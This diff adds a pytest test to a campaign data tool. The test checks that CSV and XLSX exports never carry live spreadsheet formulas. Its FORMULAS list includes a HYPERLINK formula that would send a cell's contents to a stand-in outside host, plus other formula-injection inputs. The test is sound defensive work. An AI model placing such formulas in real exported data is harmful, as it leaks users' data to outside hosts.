@@ -1002,3 +1002,56 @@ def test_cli_names_the_problem_without_a_traceback(name, campaign_copy):
         assert fix in line and len(line) < 700, line
         if getattr(outcome, "field", None):
             assert f"{'field' if lang == 'en' else 'champ'} {outcome.field}" in line, line
+
+
+# Exports never carry a live formula (issue 12): every free text of events.csv and
+# regions.csv typed as a formula, then results.csv, results.xlsx and the job sheet read back.
+FORMULAS = [
+    '=HYPERLINK("//x.example?"&B2,"MAJ")',
+    "=1+2",
+    "+1+2",
+    "-1+2",
+    "@SUM(1;2)",
+    "\t=1+2",
+    "\r=1+2",
+]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+TEXT_COLUMNS = {
+    EVENTS: ["title_fr", "title_en", "venue", "address", "city", "contact_name", "contact_email"],
+    REGIONS: ["name_fr", "name_en", "coordinator_name", "coordinator_email", "coordinator_phone"],
+}
+
+
+def every_text_as(c, formula: str):
+    for name, columns in TEXT_COLUMNS.items():
+        path = c.root / name
+        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+        for row in rows:
+            row.update({column: formula for column in columns})
+        buffer = io.StringIO()
+        writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+        path.write_text(buffer.getvalue(), encoding="utf-8")
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_exports_carry_no_live_formula(formula, campaign_copy, tmp_path):
+    from campaignkit.data.results import export, results_of
+
+    every_text_as(campaign_copy, formula)
+    data = load_campaign(campaign_copy.root)
+    assert data.events[1].city == formula.strip(), "the formula passed check as a city"
+    csv_path, xlsx_path = export(results_of(data), out_dir=tmp_path / "out")
+
+    book = openpyxl.load_workbook(xlsx_path)
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a live formula"
+    typed = [cell for cell in cells if cell.value == formula.strip()]
+    assert typed, "the missing events' city and contact are exported"
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in typed)
+
+    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8"))))
+    assert not [value for row in rows for value in row if value.startswith(TRIGGERS)]
+    text = csv_path.read_text(encoding="utf-8")
+    assert all(line.startswith('"') for line in text.splitlines()), "every text is quoted"
